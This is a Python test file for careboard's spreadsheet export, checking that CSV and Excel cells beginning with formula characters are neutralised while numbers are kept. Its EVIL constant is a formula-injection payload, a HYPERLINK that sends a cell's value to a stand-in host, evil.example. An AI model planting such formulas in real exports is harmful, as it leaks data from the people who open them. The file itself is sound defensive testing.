"""Every CSV and Excel cell careboard writes is safe to open in a spreadsheet (issue 11, web security 1).

Text starting with =, +, -, @, tab or carriage return is neutralised; numbers, negative ones
included, stay numbers.
"""

import csv
import io

import openpyxl
import pyarrow as pa
import pytest

from careboard import safe_export
from careboard.publish.scorecard_output import render_scorecard
from careboard.sufficiency.tables import to_csv, write_xlsx

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'


@pytest.mark.parametrize("text", [EVIL, "+441234", "-", "-1", "@SUM(A1)", "\tcmd", "\r=1"])
def test_text_that_starts_like_a_formula_is_prefixed(text):
    assert safe_export.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["1001", "A=B", "1-2", "", None, -1.5, -3, 0, 2.0])
def test_everything_else_is_left_alone(value):
    assert safe_export.csv_cell(value) == value


def test_a_whole_arrow_column_at_once_agrees_with_cell_by_cell():
    values = [EVIL, "+44", "ok", None, "-", "A-B", "@x", "\tx"]
    got = safe_export.csv_text_column(pa.array(values, pa.string())).to_pylist()
    assert got == [safe_export.csv_cell(v) for v in values]
    numbers = pa.array([-1, 2], pa.int32())
    assert safe_export.csv_text_column(numbers) is numbers


def test_scorecard_csv_neutralises_text_and_keeps_negative_numbers():
    row = {"measure": "cla_31_march", "lait_code": "LAC", "breakdown": "area", "breakdown_value": EVIL,
           "numerator": 3, "value": -1.5, "trend": "-2"}
    text = render_scorecard([row], "csv", "886", 2026)
    (out,) = list(csv.DictReader(io.StringIO(text)))
    assert out["breakdown_value"] == "'" + EVIL
    assert out["value"] == "-1.5" and out["numerator"] == "3"
    assert out["trend"] == "'-2"  # text in the row, so neutralised


def test_forecast_csv_neutralises_text_and_keeps_negative_numbers():
    text = to_csv([{"category": "@placements", "age_band": "10-15", "median": -0.5}])
    (out,) = list(csv.DictReader(io.StringIO(text)))
    assert out == {"category": "'@placements", "age_band": "10-15", "median": "-0.5"}


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(safe_export.xlsx_row(ws, [EVIL, "+1", -2.5, "plain"]))
    wb.save(tmp_path / "s.xlsx")
    cells = next(iter(openpyxl.load_workbook(tmp_path / "s.xlsx")["s"].iter_rows()))
    assert [c.data_type for c in cells] == ["s", "s", "n", "s"]
    assert [c.value for c in cells] == [EVIL, "+1", -2.5, "plain"]
    assert cells[0].quotePrefix and cells[1].quotePrefix and not cells[3].quotePrefix


def test_forecast_workbook_cells_are_text_never_formulas(tmp_path):
    path = write_xlsx({"shortfall": [{"home_area": EVIL, "need": "+teen", "shortfall_median": -1.5}]},
                      tmp_path / "plan.xlsx", title="=1+1")
    wb = openpyxl.load_workbook(path)
    title = wb["contents"]["A1"]
    assert (title.value, title.data_type, title.quotePrefix) == ("=1+1", "s", True)
    cells = list(wb["shortfall"].iter_rows())[1]
    assert [c.value for c in cells] == [EVIL, "+teen", -1.5]
    assert [c.data_type for c in cells] == ["s", "s", "n"] and cells[0].quotePrefix and cells[1].quotePrefix
